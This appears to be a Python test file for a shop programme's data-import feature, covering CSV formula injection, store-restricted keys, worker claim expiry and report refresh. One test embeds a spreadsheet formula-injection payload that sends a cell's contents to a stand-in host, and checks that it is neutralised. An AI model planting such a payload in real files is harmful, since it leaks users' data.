"""What a file may try, and what two workers may do to each other."""

from datetime import timedelta
from uuid import UUID

from tests.api.shop import NOW, Shop
from tests.api.test_imports import made, order, rejected, upload, work

from jifen.common.scope import scope
from jifen.faces.importing import working
from jifen.faces.importing.models import Import
from jifen.insight import selectors as insight
from jifen.insight import services as reports
from jifen.programmes import services as programmes


def test_no_formula_leaves_with_the_lines_that_were_left_out(shop: Shop) -> None:
    evil = '=HYPERLINK("http://x/?"&A1)'
    content = f"phone,name,{evil.replace(',', ';')}\n12,@SUM(A1),-1+1\n13800138001,+86,x\n"
    import_id = made(shop, content)
    order(shop, import_id, "check")
    header, line = rejected(shop.get(f"imports/{import_id}/rejected"))
    assert header[2:4] == ["phone", "name"]
    assert not [cell for cell in (*header, *line) if cell.lstrip()[:1] in {"=", "+", "-", "@"}]
    again = "\n".join(",".join(f'"{cell}"' for cell in row[2:4]) for row in (header, line))
    found = order(shop, made(shop, again), "check")
    assert found["rejected"] == [{"line": 2, "reason": "invalid_phone"}]


def test_a_check_finds_what_a_run_for_some_stores_refuses(shop: Shop) -> None:
    with scope(shop.programme.id):
        programmes.add_store(code="north", name="North", merchant="main")
    key = shop.new_key(stores=("north",))
    content = "phone,store\n13800138001,main\n13800138002,north\n"
    told = upload(shop, content, key=key).json["run"]["id"]
    for what in ("check", "run"):
        assert shop.post(f"imports/{told}/{what}", key=key).status == 202
        work(shop)
        found = shop.get(f"imports/{told}", key=key).json
        assert found["rejected"] == [{"line": 2, "reason": "wrong_store"}], what
        assert found["run"]["counts"]["enrolled"] == 1


def test_a_claim_that_lapsed_is_left_to_who_has_it_now(shop: Shop) -> None:
    import_id = UUID(made(shop, "phone\n13800138001\n"))
    assert shop.post(f"imports/{import_id}/check").status == 202
    with scope(shop.programme.id):
        row = working._claimed(import_id, NOW)
        later = NOW + working.CLAIM + timedelta(seconds=1)
        assert row is not None
        assert working._claimed(import_id, later) is not None
        assert working._step(row, NOW), "it is somebody else's to finish"
        assert Import.objects.get(id=import_id).claimed_until == later + working.CLAIM


def test_members_are_counted_anew_once_orders_of_days_that_are_over_were_brought(
    shop: Shop,
) -> None:
    with scope(shop.programme.id):
        while reports.refresh(at=NOW):
            pass
        assert insight.cohorts(store=None).cohorts == ()
    content = (
        "order,occurred_at,member,product,quantity,amount\nA1,2026-05-02 10:00,m1,tea,1,59.80\n"
    )
    assert order(shop, made(shop, content, "orders"), "run")["run"]["counts"]["new"] == 1
    with scope(shop.programme.id):
        while reports.refresh(at=NOW):
            pass
        assert len(insight.cohorts(store=None).cohorts) == 1
